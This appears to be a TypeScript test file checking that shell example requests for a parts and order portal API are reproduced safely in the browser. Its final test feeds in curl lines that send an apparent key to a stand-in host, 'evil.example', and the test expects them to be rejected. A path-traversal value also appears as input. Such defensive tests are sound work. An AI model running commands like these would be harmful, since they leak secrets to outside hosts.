import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { requestOf, variablesOf } from './run-example.ts'

const example = (name: string) =>
  readFileSync(join(import.meta.dirname, '../../../../../client/examples', `${name}.sh`), 'utf8')

test('the examples are the same requests in the browser', () => {
  const parts = requestOf(example('parts'))
  expect(parts).toMatchObject({ method: 'GET', body: null })
  const url = new URL(parts.path, 'https://portal.example')
  expect(url.pathname).toBe('/api/v1/parts')
  expect(JSON.parse(url.searchParams.get('json')!)).toMatchObject({ search: 'brake pads' })
  const findings = requestOf(example('findings'))
  expect(findings).toMatchObject({ method: 'POST', path: '/api/v1/findings' })
  expect(JSON.parse(findings.body!)).toMatchObject({ findings: [{ reference: '1' }, { reference: '2' }] })
  expect(JSON.parse(requestOf(example('order-link')).body!)).toMatchObject({ ro_number: '48213' })
})

test('a value of the reader takes the place of a variable, and stays one part of the address', () => {
  expect(variablesOf(example('parts'))).toEqual([])
  expect(variablesOf(example('order-state'))).toEqual(['LINK_ID'])
  expect(requestOf(example('order-state'), { LINK_ID: '7/../x' }).path).toBe('/api/v1/orderLink/7%2F..%2Fx')
})

test('nothing but an address of the portal is called', () => {
  expect(() => requestOf('curl "https://evil.example/$CUTAWAY_KEY"')).toThrow('no address')
  expect(() => requestOf('curl "$CUTAWAY_URL.evil.example/"')).toThrow('no address')
})
